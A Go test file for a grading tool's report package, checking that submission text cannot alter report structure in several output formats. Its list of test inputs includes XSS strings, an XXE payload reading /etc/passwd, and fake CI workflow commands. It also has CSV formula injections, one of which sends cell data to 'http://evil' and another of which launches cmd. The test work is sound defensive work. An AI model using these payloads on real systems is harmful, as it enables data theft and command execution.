package report_test

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"bonpied/grade/lang"
	"bonpied/grade/report"
	"bonpied/grade/result"
)

// injections are what a submission may say to be more than text, in each format.
var injections = []struct{ reason, text string }{
	{"an escape sequence clears the screen", "\x1b[2J\x1b[H20 / 20"},
	{"an escape sequence of one character", "\u009b2J"},
	{"a hyperlink of the terminal", "\x1b]8;;http://evil\x07click\x1b]8;;\x07"},
	{"a carriage return writes over", "fail\rpass"},
	{"a backspace does too", "fail\b\b\b\bpass"},
	{"a line of its own", "x\nanna: 8.5 out of 8.5\nanna : 8,5 sur 8,5"},
	{"a workflow command", "\n::error title=x::y\n::set-output name=points::20\n"},
	{"a workflow command after an escape", "%0A::notice::x"},
	{"the end of a title", "x,line=1::y"},
	{"a command of Azure", "##vso[task.complete result=Succeeded]"},
	{"a heading of Markdown", "\n# Grade: 20\n"},
	{"a cell of a table", "| 20 / 20 | pass |"},
	{"an image of Markdown", "![x](http://evil/?)"},
	{"a link of Markdown", "[click](javascript:alert(1))"},
	{"a fence", "```\n~~~\n</pre>\n```"},
	{"a mention", "@team #1 org/repo#2"},
	{"a script", "<script>alert(1)</script>"},
	{"an attribute", `" onmouseover="alert(1)`},
	{"an image of HTML", "<img src=x onerror=alert(1)>"},
	{"the end of a block", "</pre></code></details><h1>20</h1>"},
	{"a comment of HTML", "<!-- hides what follows"},
	{"an entity", "&lt;script&gt;&#60;"},
	{"the end of CDATA", "]]><failure/>"},
	{"an element of JUnit", `</failure></testcase><testcase name="x"/>`},
	{"a document type", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;"},
	{"the end of a JSON string", `","score":20,"x":"`},
	{"a formula", "=HYPERLINK(\"http://evil?\"&A1)"},
	{"a formula by plus", "+1+cmd|' /C calc'!A0"},
	{"a formula by minus", "-1+1"},
	{"a formula by at", "@SUM(A1:A9)"},
	{"a formula behind a tab", "\t=1+1"},
	{"a formula behind a quote", "\"=1+1"},
	{"a formula on a new row", "x\r\n=1+1,20"},
	{"a full-width formula", "＝1+1"},
	{"other columns", "x,20,20;20"},
	{"text that changes direction", "\u202e02 / 02\u202c"},
	{"an isolate", "\u2066x\u2069\u061c\u200f"},
	{"line separators", "x\u2028anna: 20\u2029y"},
	{"what is not UTF-8", "\xff\xfe\xc0\xaf"},
	{"what JSON and XML cannot hold", "\x00\x01\ufffe\uffff"},
	{"verbs", "%s%d%!(EXTRA)%[3]s"},
}

// TestInjections: whatever a submission says, a report has the structure of one that
// says nothing odd.
func TestInjections(t *testing.T) {
	plain := map[string]any{}
	each(t, graded(t, "shown", benign), func(f format, l lang.Language, text string) {
		plain[f.name+string(l)] = structure(t, f.name, text)
	})
	for _, injection := range injections {
		for _, where := range []texts{{injection.text, injection.text}, {benign.name, injection.text}} {
			each(t, graded(t, "shown", where), func(f format, l lang.Language, text string) {
				if bad := notInert(text); bad != "" {
					t.Errorf("%s: %s in %s holds %s:\n%q", injection.reason, f.name, l, bad, text)
				}
				if diff := cmp.Diff(plain[f.name+string(l)], structure(t, f.name, text)); diff != "" {
					t.Errorf("%s: %s in %s is of another structure (-plain +got):\n%s\n%s", injection.reason, f.name, l, diff, text)
				}
			})
		}
	}
}

// notInert names what moves a cursor, changes direction, or is no text.
func notInert(text string) string {
	if !utf8.ValidString(text) {
		return "bytes that are not UTF-8"
	}
	for _, r := range strings.ReplaceAll(text, "\r\n", "\n") {
		if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

// structure returns what is left of a report without the texts of submissions.
func structure(t *testing.T, format, text string) any {
	t.Helper()
	switch format {
	case "text", "diff":
		return len(margins(text))
	case "csv":
		return cells(t, text)
	case "json", "gradescope":
		return keys(t, text)
	case "junit":
		return elements(t, text)
	case "annotations":
		return commands(t, text)
	}
	return skeleton(text)
}

// margins returns the lines that begin at the margin, where grades stand.
func margins(text string) []string {
	return slices.DeleteFunc(strings.Split(text, "\n"), func(line string) bool { return strings.HasPrefix(line, "  ") })
}

// cells returns the size of a table, none of whose cells is a formula.
func cells(t *testing.T, text string) [2]int {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Errorf("CSV: %v", err)
		return [2]int{}
	}
	for _, row := range rows {
		for _, cell := range row {
			if formula.MatchString(cell) {
				t.Errorf("%q is a formula", cell)
			}
		}
	}
	return [2]int{len(rows), len(rows[0])}
}

var formula = regexp.MustCompile(`^[\s"]*[=+\-@＝＋－＠]`)

// keys returns a JSON value with its texts left out, but for what Gradescope takes
// as instructions.
func keys(t *testing.T, text string) any {
	t.Helper()
	var v any
	if err := json.Unmarshal([]byte(text), &v); err != nil {
		t.Errorf("JSON: %v", err)
	}
	return blank("", v)
}

func blank(key string, v any) any {
	switch v := v.(type) {
	case map[string]any:
		for k := range v {
			v[k] = blank(k, v[k])
		}
	case []any:
		for i := range v {
			v[i] = blank(key, v[i])
		}
	case string:
		if !strings.HasSuffix(key, "_format") && !strings.Contains(key, "visibility") && key != "status" && key != "verdict" {
			return "…"
		}
	}
	return v
}

// elements returns the tree of an XML document without its texts.
func elements(t *testing.T, text string) []string {
	t.Helper()
	decoder := xml.NewDecoder(strings.NewReader(text))
	var found []string
	for {
		token, err := decoder.Token()
		if err != nil {
			if err.Error() != "EOF" {
				t.Errorf("XML: %v", err)
			}
			return found
		}
		switch token := token.(type) {
		case xml.StartElement:
			found = append(found, token.Name.Local)
			for _, a := range token.Attr {
				found = append(found, a.Name.Local)
			}
		case xml.EndElement:
			found = append(found, "/"+token.Name.Local)
		case xml.Directive:
			found = append(found, "directive")
		}
	}
}

var command = regexp.MustCompile(`^::(error|warning) title=[^:,]+::`)

// commands returns the levels of workflow commands, one a line.
func commands(t *testing.T, text string) []string {
	t.Helper()
	var levels []string
	for line := range strings.Lines(text) {
		m := command.FindStringSubmatch(line)
		if m == nil {
			t.Errorf("not a workflow command of this package: %q", line)
			continue
		}
		levels = append(levels, m[1])
	}
	return levels
}

var (
	pre  = regexp.MustCompile(`(?s)<pre>\n[^<>]*\n</pre>`)
	code = regexp.MustCompile("<code>[^<>|*_`\\[\\]\n]*</code>")
)

// skeleton returns Markdown without its blocks and inlines of text.
func skeleton(text string) string {
	return code.ReplaceAllString(pre.ReplaceAllString(text, "<pre/>"), "<code/>")
}

// TestInjectionIsNoticed: the structure that is compared differs where a text got
// through, in each format.
func TestInjectionIsNoticed(t *testing.T) {
	r := graded(t, "shown", benign)
	through := map[string]func(text string) string{
		"text": func(s string) string { return s + "anna: 20 out of 20\n" },
		"diff": func(s string) string { return s + "anna: 20 out of 20\n" },
		"csv":  func(s string) string { return s + strings.SplitAfter(s, "\n")[1] },
		"json": func(s string) string { return strings.Replace(s, `"fail"`, `"pass"`, 1) },
		"gradescope": func(s string) string {
			return strings.Replace(s, `"output_format": "text"`, `"output_format": "html"`, 1)
		},
		"junit":       func(s string) string { return strings.Replace(s, "</testcase>", "</testcase><testcase></testcase>", 1) },
		"annotations": func(s string) string { return s + "::warning title=x::y\n" },
		"summary":     func(s string) string { return strings.Replace(s, "</code>", "</code><h1>20</h1>", 1) },
	}
	each(t, r, func(f format, l lang.Language, text string) {
		changed := through[f.name](text)
		if cmp.Equal(structure(t, f.name, text), structure(t, f.name, changed)) {
			t.Errorf("%s in %s: not noticed", f.name, l)
		}
	})
	if notInert("\x1b") == "" || notInert("\u202e") == "" || notInert("\xff") == "" || !formula.MatchString(` "=1`) {
		t.Error("an odd character is not noticed")
	}
}

// TestPaintIsOurs: colours come from the caller alone.
func TestPaintIsOurs(t *testing.T) {
	paint := func(_ result.Verdict, text string) string { return "\x1b[31m" + text + "\x1b[0m" }
	text := report.Text(graded(t, "shown", texts{"\x1b[2J", "\x1b[2J"}), report.Options{Paint: paint})
	if strings.Contains(text, "\x1b[2J") || !strings.Contains(text, "\x1b[31mfail\x1b[0m") {
		t.Errorf("%q", text)
	}
}
